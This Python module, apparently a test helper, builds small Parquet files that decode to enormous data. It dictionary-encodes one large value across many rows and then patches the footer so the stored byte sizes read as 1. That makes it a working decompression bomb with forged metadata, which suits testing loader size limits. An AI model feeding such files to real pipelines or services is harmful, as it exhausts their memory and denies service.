"""Parquet files that are small, say they are harmless, and decode to very much."""

import struct
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq


def write_lying_bomb(path: Path, value_bytes: int, num_rows: int) -> None:
    """Writes one value, repeated in every row, under a footer that says it has no size.

    Args:
        path: The file, of about a kilobyte.
        value_bytes: Bytes of the value, which is in the file once.
        num_rows: Rows that hold it.
    """
    keys = pa.array([0] * num_rows, pa.int32())
    image = pa.DictionaryArray.from_arrays(keys, pa.array([bytes(value_bytes)], pa.binary()))
    labels = pa.array([row % 2 for row in range(num_rows)], pa.int64())
    pq.write_table(
        pa.table({"image": image, "label": labels}),
        path,
        compression="zstd",
        use_dictionary=["image"],
        dictionary_pagesize_limit=2**31 - 1,
        data_page_size=2**31 - 1,
        write_statistics=False,
        store_schema=False,
    )
    group = pq.read_metadata(path).row_group(0)
    sizes = {group.total_byte_size, group.column(0).total_uncompressed_size}
    data = bytearray(path.read_bytes())
    footer_bytes = struct.unpack("<I", data[-8:-4])[0]
    start = len(data) - 8 - footer_bytes
    footer = bytes(data[start:-8])
    for size in sizes:
        written = _varint(2 * size)
        footer = footer.replace(written, _padded_varint(2, len(written)))
    data[start:-8] = footer
    path.write_bytes(bytes(data))
    assert pq.read_metadata(path).row_group(0).total_byte_size == 1


def _varint(value: int) -> bytes:
    encoded = bytearray()
    while True:
        bits = value & 127
        value >>= 7
        if not value:
            encoded.append(bits)
            return bytes(encoded)
        encoded.append(bits | 128)


def _padded_varint(value: int, num_bytes: int) -> bytes:
    """Returns a number that takes more bytes than it needs, so that nothing behind it moves."""
    encoded = bytearray()
    for position in range(num_bytes):
        is_last = position == num_bytes - 1
        encoded.append((value & 127) | (0 if is_last else 128))
        value >>= 7
    return bytes(encoded)
